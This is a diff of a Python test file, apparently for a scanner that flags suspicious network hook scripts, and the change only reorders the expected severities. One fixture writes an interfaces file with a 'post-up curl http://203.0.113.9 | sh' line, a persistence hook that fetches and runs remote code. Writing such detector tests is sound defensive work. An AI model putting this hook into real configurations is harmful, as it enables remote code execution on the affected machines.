@@ -12,7 +12,7 @@ def test_a_hook_that_nobody_brought() -> None:
         put("network", "/etc/network/if-up.d/x", "#!/bin/sh\ntrue\n", mode=0o755),
         put("network", "/etc/network/interfaces", "iface eth0 inet dhcp\n  post-up curl http://203.0.113.9 | sh\n"),
     )
-    assert [severity for severity, _ in found(CHECK, survey(files=files))] == ["critical", "medium", "critical"]
+    assert [severity for severity, _ in found(CHECK, survey(files=files))] == ["critical", "critical", "medium"]
 
 
 def test_those_of_packages_and_settings() -> None:
